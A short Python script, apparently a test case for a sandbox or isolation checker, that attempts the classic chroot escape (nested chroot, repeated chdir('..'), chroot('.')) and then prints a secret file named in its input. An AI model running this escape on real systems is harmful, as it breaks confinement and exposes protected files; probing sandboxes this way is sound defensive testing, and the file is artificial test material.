# Leaves its root the classic way: a second root below, then upwards.
# outcome: ok
# control: none — needs root
import json
import os

path = json.loads(input())["secret_file"]
try:
    try:
        os.mkdir("below")
    except OSError as error:
        print("refused:", error)
    os.chroot("below")
    print("LEAK changed root")
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
    print(open(path).read())
except OSError as error:
    print("refused:", error)
